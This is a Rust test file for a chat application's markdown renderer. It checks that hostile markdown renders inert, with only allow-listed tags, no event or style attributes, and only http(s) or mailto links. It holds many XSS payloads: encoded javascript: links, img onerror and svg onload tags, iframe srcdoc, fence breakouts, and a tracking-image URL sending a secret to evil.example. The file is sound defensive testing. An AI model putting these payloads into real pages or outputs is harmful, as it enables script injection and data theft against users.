//! Hostile markdown: whatever the model writes, the rendered tree holds only
//! allow-listed tags and attributes, no `on*`, `style` or `src` attributes
//! (images load only on a click), links only to http(s)/mailto as a
//! browser would read them, and raw HTML survives as visible text. Every
//! payload is named, and checked whole and as the prefixes a stream shows.

#![allow(
    clippy::disallowed_methods,
    reason = "a host test: std's sort and serde_json cost nothing here (clippy.toml)"
)]

use minimax_chat::markdown::{ALLOWED_ATTRS, ALLOWED_TAGS, MdNode, render, to_html_string};
use proptest::prelude::*;

/// One hostile input: a name for failure messages, the markdown, and text
/// that must still be visible in the rendered text (nothing is silently
/// dropped, it is made inert).
struct Payload {
    name: &'static str,
    markdown: &'static str,
    visible: &'static str,
}

const fn p(name: &'static str, markdown: &'static str, visible: &'static str) -> Payload {
    Payload {
        name,
        markdown,
        visible,
    }
}

const PAYLOADS: &[Payload] = &[
    // javascript: in every spelling
    p("js plain", "[x](javascript:alert(1))", "x"),
    p("js upper", "[x](JAVASCRIPT:alert(1))", "x"),
    p("js mixed case", "[x](JaVaScRiPt:alert(1))", "x"),
    p("js leading space", "[x]( javascript:alert(1))", "x"),
    p("js padded", "[x](  javascript:alert(1)  )", "x"),
    p("js angle dest", "[x](<javascript:alert(1)>)", "x"),
    p("js space inside", "[x](<java script:alert(1)>)", "x"),
    p("js raw tab inside", "[x](<java\tscript:alert(1)>)", "x"),
    p("js tab decimal", "[x](java&#9;script:alert(1))", "x"),
    p("js newline decimal", "[x](java&#10;script:alert(1))", "x"),
    p("js newline hex", "[x](java&#x0A;script:alert(1))", "x"),
    p("js tab named", "[x](java&Tab;script:alert(1))", "x"),
    p("js newline named", "[x](java&NewLine;script:alert(1))", "x"),
    p("js decimal j", "[x](&#106;avascript:alert(1))", "x"),
    p("js hex j", "[x](&#x6A;avascript:alert(1))", "x"),
    p("js zero padded", "[x](&#0000106;avascript:alert(1))", "x"),
    p(
        "js decimal no semicolon",
        "[x](&#106avascript:alert(1))",
        "x",
    ),
    p(
        "js hex no semicolon",
        "[x](&#x6A&#x61vascript:alert(1))",
        "x",
    ),
    p(
        "js every char encoded",
        "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
        "x",
    ),
    p("js colon named", "[x](javascript&colon;alert(1))", "x"),
    p("js colon decimal", "[x](javascript&#58;alert(1))", "x"),
    p(
        "js double encoded j",
        "[x](&amp;#106;avascript:alert(1))",
        "x",
    ),
    p(
        "js double encoded colon",
        "[x](javascript&amp;colon;alert(1))",
        "x",
    ),
    p("js percent colon", "[x](javascript%3Aalert(1))", "x"),
    p("js percent j", "[x](%6Aavascript:alert(1))", "x"),
    p("js leading control", "[x](\u{1}javascript:alert(1))", "x"),
    p("js leading backspace", "[x](\u{8}javascript:alert(1))", "x"),
    p("js leading bom", "[x](\u{feff}javascript:alert(1))", "x"),
    p("js nul inside", "[x](java\u{0}script:alert(1))", "x"),
    p("js fullwidth j", "[x](ｊavascript:alert(1))", "x"),
    p("js after https", "[x](https:javascript:alert(1))", "x"),
    p("js with title", "[x](javascript:alert(1) \"t\")", "x"),
    // other dangerous schemes and relative targets
    p(
        "data html",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "x",
    ),
    p("vbscript", "[x](vbscript:msgbox(1))", "x"),
    p("file", "[x](file:///etc/passwd)", "x"),
    p("protocol relative", "[x](//evil.example/x)", "x"),
    p(
        "relative, fragment, query",
        "[x](/relative) [y](#frag) [z](?q=1)",
        "z",
    ),
    // autolinks
    p(
        "autolink js",
        "<javascript:alert(1)>",
        "javascript:alert(1)",
    ),
    p(
        "autolink js upper",
        "<JAVASCRIPT:alert(1)>",
        "JAVASCRIPT:alert(1)",
    ),
    p("autolink data", "<data:text/html,x>", "data:text/html,x"),
    p(
        "autolink vbscript",
        "<vbscript:msgbox(1)>",
        "vbscript:msgbox(1)",
    ),
    p(
        "autolink quote breakout",
        "<https://ok.example/\"onmouseover=\"alert(1)>",
        "https://ok.example/",
    ),
    p(
        "autolink tag breakout",
        "<https://ok.example/\"><script>alert(1)</script>>",
        "alert(1)",
    ),
    // reference-style links
    p(
        "reference js",
        "[r]: javascript:alert(1)\n\n[x][r] [r] [r][]",
        "x",
    ),
    p(
        "reference js angle title",
        "[r]: <javascript:alert(1)> \"t\"\n\n[x][r]",
        "x",
    ),
    p(
        "reference defined later",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x][r]",
    ),
    p(
        "reference encoded",
        "[r]: &#106;avascript:alert(1)\n\n[x][r]",
        "x",
    ),
    p(
        "reference title quotes",
        "[r]: https://a.example \"a\\\" onmouseover=\\\"alert(1)\"\n\n[x][r]",
        "x",
    ),
    // link titles with quotes
    p(
        "title double quotes",
        "[x](https://a.example \"a\\\" onmouseover=\\\"alert(1)\")",
        "x",
    ),
    p(
        "title single quotes",
        "[x](https://a.example 'a\\' onmouseover=\\'alert(1)')",
        "x",
    ),
    p(
        "title parens",
        "[x](https://a.example (\"><script>alert(1)</script>))",
        "x",
    ),
    // raw HTML: event handlers and dangerous elements
    p(
        "html anchor js",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"javascript:alert(1)\">click</a>",
    ),
    p(
        "html img onerror",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
    ),
    p(
        "inline img onerror",
        "Inline <img src=x onerror=alert(1)> here",
        "<img src=x onerror=alert(1)>",
    ),
    p(
        "iframe srcdoc",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    ),
    p(
        "svg onload",
        "<svg onload=alert(1)>",
        "<svg onload=alert(1)>",
    ),
    p(
        "inline svg slash onload",
        "text <svg/onload=alert(1)> text",
        "<svg/onload=alert(1)>",
    ),
    p(
        "base href",
        "<base href=\"https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
    ),
    p(
        "meta refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    ),
    p(
        "form action",
        "<form action=\"https://evil.example\"><button>go</button></form>",
        "<form action=\"https://evil.example\"><button>go</button></form>",
    ),
    p(
        "object",
        "<object data=\"x.swf\"></object>",
        "<object data=\"x.swf\"></object>",
    ),
    p("embed", "<embed src=\"x.swf\">", "<embed src=\"x.swf\">"),
    p(
        "style element",
        "<style>body{display:none}</style>",
        "<style>body{display:none}</style>",
    ),
    p(
        "style attribute",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "style=",
    ),
    p(
        "script",
        "<script>alert(1)</script>",
        "<script>alert(1)</script>",
    ),
    p(
        "div onmouseover",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<div onmouseover=\"alert(1)\">hover</div>",
    ),
    p(
        "bold onclick in strong",
        "**<b onclick=alert(1)>**",
        "<b onclick=alert(1)>",
    ),
    p(
        "comment breakout",
        "<!--><script>alert(1)</script>-->",
        "<script>alert(1)</script>",
    ),
    p(
        "comment conditional",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "alert(1)",
    ),
    p(
        "math mglyph",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
    ),
    p(
        "math href",
        "<math href=\"javascript:alert(1)\"><mi>x</mi></math>",
        "javascript:alert(1)",
    ),
    p(
        "math maction",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "maction",
    ),
    p(
        "details ontoggle",
        "<details open ontoggle=alert(1)>",
        "<details open ontoggle=alert(1)>",
    ),
    p(
        "link import",
        "<link rel=import href=\"https://evil.example\">",
        "<link rel=import",
    ),
    // code that tries to break out of its element
    p(
        "fence closes code",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "</code></pre><script>alert(1)</script>",
    ),
    p(
        "fence html script",
        "```html\n<script>alert(1)</script>\n```",
        "<script>alert(1)</script>",
    ),
    p(
        "fence svg onload",
        "```svg\n<svg onload=alert(1)></svg>\n```",
        "<svg onload=alert(1)></svg>",
    ),
    p(
        "fence js breakout",
        "```js\n\"</code><img src=x onerror=alert(1)>\"\n```",
        "<img src=x onerror=alert(1)>",
    ),
    p(
        "inline code closes code",
        "`</code><script>alert(1)</script>`",
        "</code><script>alert(1)</script>",
    ),
    p(
        "info string attribute breakout",
        "```\"><img src=x onerror=alert(1)>\ncode\n```",
        "code",
    ),
    p(
        "info string script",
        "```\"><script>alert(1)</script>\ncode\n```",
        "code",
    ),
    p(
        "info string class injection",
        "```js\" class=\"x\" onclick=\"alert(1)\ncode\n```",
        "code",
    ),
    p(
        "tilde fence info",
        "~~~<svg/onload=alert(1)>\ncode\n~~~",
        "code",
    ),
    // images
    p("image js", "![x](javascript:alert(1))", "x"),
    p("image data", "![x](data:image/png;base64,AAAA)", "x"),
    p(
        "image data svg",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "x",
    ),
    p(
        "image tracking",
        "![x](https://evil.example/track.png?conv=secret)",
        "Load image: x",
    ),
    p(
        "image in js link",
        "[![img](https://e.example/i.png)](javascript:alert(1))",
        "img",
    ),
    p(
        "image js angle title",
        "![x](<javascript:alert(1)> \"t\")",
        "x",
    ),
    p(
        "image reference js",
        "[i]: javascript:alert(1)\n\n![x][i]",
        "x",
    ),
    // math must stay text
    p(
        "tex href",
        "$\\href{javascript:alert(1)}{x}$",
        "javascript:alert(1)",
    ),
    p(
        "math html",
        "$<img src=x onerror=alert(1)>$",
        "<img src=x onerror=alert(1)>",
    ),
    p(
        "display math style",
        "$$\\style{color:red}{x} <script>alert(1)</script>$$",
        "<script>alert(1)</script>",
    ),
    p(
        "math title quotes",
        "$\" onmouseover=\"alert(1)$",
        "onmouseover",
    ),
    // attributes that must stay inert
    p(
        "heading attributes",
        "# Heading {#id onclick=alert(1)}",
        "{#id onclick=alert(1)}",
    ),
    p(
        "footnote script",
        "[^x]\n\n[^x]: <script>alert(1)</script>",
        "<script>alert(1)</script>",
    ),
    p(
        "footnote label html",
        "[^<img src=x onerror=alert(1)>]",
        "<img src=x onerror=alert(1)>",
    ),
    p(
        "table cell img",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "<img src=x onerror=alert(1)>",
    ),
    p(
        "quote iframe",
        "> <iframe src=\"https://evil.example\">",
        "<iframe src=\"https://evil.example\">",
    ),
    p(
        "task input autofocus",
        "- [x] <input autofocus onfocus=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
    ),
];

/// Huge nesting, built at run time: it must neither crash (stack) nor
/// produce anything the flat payloads cannot.
fn nested_payloads() -> Vec<(String, String, &'static str)> {
    let deep = |name: &str, unit: &str, tail: &str, visible| {
        (name.to_owned(), unit.repeat(20_000) + tail, visible)
    };
    vec![
        deep(
            "nested quotes",
            "> ",
            "<script>alert(1)</script>",
            "alert(1)",
        ),
        deep("nested lists", "- ", "[x](javascript:alert(1))", "x"),
        deep(
            "nested ordered lists",
            "1. ",
            "<img src=x onerror=alert(1)>",
            "alert(1)",
        ),
        deep("nested brackets", "[", "](javascript:alert(1))", "["),
        deep(
            "nested emphasis",
            "*a ",
            "<svg onload=alert(1)>",
            "alert(1)",
        ),
        deep("nested links", "[a](", "javascript:alert(1))", "[a]("),
        deep("nested math braces", "$\\frac{", "alert(1)$", "alert(1)"),
        (
            "nested image links".to_owned(),
            "[![".repeat(5_000)
                + "x](javascript:alert(1))"
                + &"](javascript:alert(1))".repeat(5_000),
            "x",
        ),
    ]
}

/// Decodes the character references a browser would in an attribute.
fn decode(value: &str) -> String {
    let mut out = String::new();
    let mut rest = value;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        rest = &rest[amp + 1..];
        let (radix, digits_from) = match rest.as_bytes() {
            [b'#', b'x' | b'X', ..] => (16, 2),
            [b'#', ..] => (10, 1),
            _ => {
                out.push('&');
                continue;
            }
        };
        let digits = rest[digits_from..]
            .chars()
            .take_while(|c| c.is_digit(radix))
            .count();
        let number = u32::from_str_radix(&rest[digits_from..digits_from + digits], radix).ok();
        out.push(number.and_then(char::from_u32).unwrap_or('\u{fffd}'));
        rest = &rest[digits_from + digits..];
        rest = rest.strip_prefix(';').unwrap_or(rest);
    }
    out.push_str(rest);
    out
}

/// Collects every problem with `nodes`; empty when the tree is safe.
fn violations(nodes: &[MdNode], depth: usize, out: &mut Vec<String>) {
    for node in nodes {
        let MdNode::Element {
            tag,
            attrs,
            children,
        } = node
        else {
            continue;
        };
        if !ALLOWED_TAGS.contains(tag) {
            out.push(format!("tag <{tag}>"));
        }
        for (name, value) in attrs {
            if !ALLOWED_ATTRS.contains(name)
                || name.starts_with("on")
                || matches!(*name, "style" | "src" | "srcdoc" | "action" | "formaction")
            {
                out.push(format!("attribute {name}"));
            }
            // What a browser would follow: entities decoded, controls and
            // spaces trimmed, scheme compared without case.
            let followed = decode(value)
                .trim_matches(|c: char| c.is_control() || c.is_whitespace())
                .to_ascii_lowercase();
            let web = followed.starts_with("http://") || followed.starts_with("https://");
            if *name == "href" && !(web || followed.starts_with("mailto:")) {
                out.push(format!("href {value:?}"));
            }
            if *name == "data-src" && !web {
                out.push(format!("data-src {value:?}"));
            }
            let class_chars = |c: char| c.is_ascii_alphanumeric() || " _+#.-".contains(c);
            if *name == "class" && !value.chars().all(class_chars) {
                out.push(format!("class {value:?}"));
            }
        }
        if depth > 200 {
            out.push("nesting deeper than 200".to_owned());
            return;
        }
        violations(children, depth + 1, out);
    }
}

fn text_of(nodes: &[MdNode]) -> String {
    nodes.iter().map(MdNode::text_content).collect()
}

fn check(src: &str) -> Result<(), String> {
    let nodes = render(src);
    let mut problems = Vec::new();
    violations(&nodes, 0, &mut problems);
    if problems.is_empty() {
        return Ok(());
    }
    let html = to_html_string(&nodes);
    let shown: String = html.chars().take(2000).collect();
    Err(format!("{problems:?}\n{shown}"))
}

/// Checks the whole render and the renders of prefixes, as a stream shows
/// them; returns the failures, each naming its payload.
fn failures<'p>(payloads: impl IntoIterator<Item = (&'p str, &'p str)>) -> Vec<String> {
    let mut failed = Vec::new();
    for (name, src) in payloads {
        let step = (src.len() / 40).max(1);
        let cuts = (0..src.len()).step_by(step).chain([src.len()]);
        for cut in cuts.filter(|&cut| src.is_char_boundary(cut)) {
            if let Err(problem) = check(&src[..cut]) {
                failed.push(format!("{name} (first {cut} bytes): {problem}"));
                break;
            }
        }
    }
    failed
}

#[test]
fn corpus_is_large_enough_and_names_are_unique() {
    assert!(PAYLOADS.len() >= 40, "{} payloads", PAYLOADS.len());
    let mut names: Vec<&str> = PAYLOADS.iter().map(|p| p.name).collect();
    names.sort_unstable();
    let count = names.len();
    names.dedup();
    assert_eq!(names.len(), count, "duplicate payload names");
    let mut sources: Vec<&str> = PAYLOADS.iter().map(|p| p.markdown).collect();
    sources.sort_unstable();
    sources.dedup();
    assert_eq!(sources.len(), count, "duplicate payloads");
}

#[test]
fn checker_catches_what_it_should() {
    let element = |tag, attrs: &[(&'static str, &str)]| MdNode::Element {
        tag,
        attrs: attrs.iter().map(|(n, v)| (*n, v.to_string())).collect(),
        children: Vec::new(),
    };
    let bad = [
        element("img", &[]),
        element("a", &[("href", " &#x6A;avascript:alert(1)")]),
        element("a", &[("href", "\u{1}JAVASCRIPT:x")]),
        element("a", &[("href", "/relative")]),
        element("span", &[("style", "x")]),
        element("span", &[("onclick", "x")]),
        element("span", &[("src", "https://x.example")]),
        element("button", &[("data-src", "data:x")]),
        element("code", &[("class", "language-x\" onclick=\"y")]),
    ];
    for node in bad {
        let mut problems = Vec::new();
        violations(std::slice::from_ref(&node), 0, &mut problems);
        assert!(!problems.is_empty(), "not caught: {node:?}");
    }
    let good = element("a", &[("href", "HTTPS://x.example"), ("class", "tok-kw")]);
    let mut problems = Vec::new();
    violations(&[good], 0, &mut problems);
    assert!(problems.is_empty(), "{problems:?}");
}

#[test]
fn payloads_render_inert() {
    let failed = failures(PAYLOADS.iter().map(|p| (p.name, p.markdown)));
    assert!(failed.is_empty(), "{}", failed.join("\n\n"));
}

#[test]
fn deeply_nested_payloads_render_inert() {
    let payloads = nested_payloads();
    let failed = failures(
        payloads
            .iter()
            .map(|(name, src, _)| (name.as_str(), src.as_str())),
    );
    assert!(failed.is_empty(), "{}", failed.join("\n\n"));
    for (name, src, visible) in &payloads {
        assert!(
            text_of(&render(src)).contains(visible),
            "{name} lost {visible:?}"
        );
    }
}

#[test]
fn payload_text_stays_visible() {
    let failed: Vec<String> = PAYLOADS
        .iter()
        .filter(|p| !text_of(&render(p.markdown)).contains(p.visible))
        .map(|p| format!("{}: lost {:?} from {:?}", p.name, p.visible, p.markdown))
        .collect();
    assert!(failed.is_empty(), "{}", failed.join("\n"));
}

#[test]
fn no_payload_becomes_a_script_link() {
    for payload in PAYLOADS {
        let html = to_html_string(&render(payload.markdown)).to_ascii_lowercase();
        for bad in [
            "href=\"javascript",
            "href=\"data",
            "href=\"vbscript",
            "href=\"file",
        ] {
            assert!(!html.contains(bad), "{}: {html}", payload.name);
        }
    }
}

#[test]
fn blocked_links_are_marked() {
    let html = to_html_string(&render("[click](javascript:alert(1))"));
    assert_eq!(
        html,
        "<p><span class=\"link-blocked\" title=\"blocked link\">click</span></p>"
    );
}

#[test]
fn breakout_fence_stays_inside_code() {
    let nodes = render("```\n</code></pre><script>alert(1)</script>\n```");
    let [
        MdNode::Element {
            tag: "pre",
            children,
            ..
        },
    ] = nodes.as_slice()
    else {
        panic!("expected one <pre>: {nodes:?}");
    };
    let [
        MdNode::Element {
            tag: "code",
            children: code,
            ..
        },
    ] = children.as_slice()
    else {
        panic!("expected <code> in <pre>: {children:?}");
    };
    assert_eq!(
        code,
        &[MdNode::Text(
            "</code></pre><script>alert(1)</script>\n".to_owned()
        )]
    );
}

#[test]
fn remote_image_needs_a_click_and_names_its_host() {
    let html = to_html_string(&render("![x](https://evil.example/t.png?c=secret)"));
    assert_eq!(
        html,
        "<p><span class=\"md-image\" data-src=\"https://evil.example/t.png?c=secret\">\
         <button type=\"button\" class=\"load-image\" data-src=\"https://evil.example/t.png?c=secret\" \
         title=\"https://evil.example/t.png?c=secret\">Load image: x</button> \
         <span class=\"md-image-host\">(evil.example)</span></span></p>"
    );
}

/// Pieces of hostile and ordinary markdown to mix at random.
const PIECES: &[&str] = &[
    "[x](",
    "javascript:",
    "JaVa",
    "&#106;",
    "&#x6A;",
    "&colon;",
    "&Tab;",
    "%3A",
    "data:",
    "https://ok.example/",
    "mailto:a@b.example",
    ")",
    "<",
    ">",
    "\"",
    "'",
    "<script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=",
    "<a href=",
    "![i](",
    "[r]: ",
    "[r]",
    "\n",
    "\n\n",
    "```",
    "`",
    " ",
    "\t",
    "- ",
    "> ",
    "| a |\n|---|\n",
    "[^1]",
    "#",
    "*",
    "alert(1)",
    "\u{0}",
    "\r",
];

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 3000,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn random_hostile_text_renders_safely(
        parts in proptest::collection::vec(proptest::sample::select(PIECES), 0..40),
    ) {
        let src = parts.concat();
        if let Err(problem) = check(&src) {
            prop_assert!(false, "{}", problem);
        }
    }
}
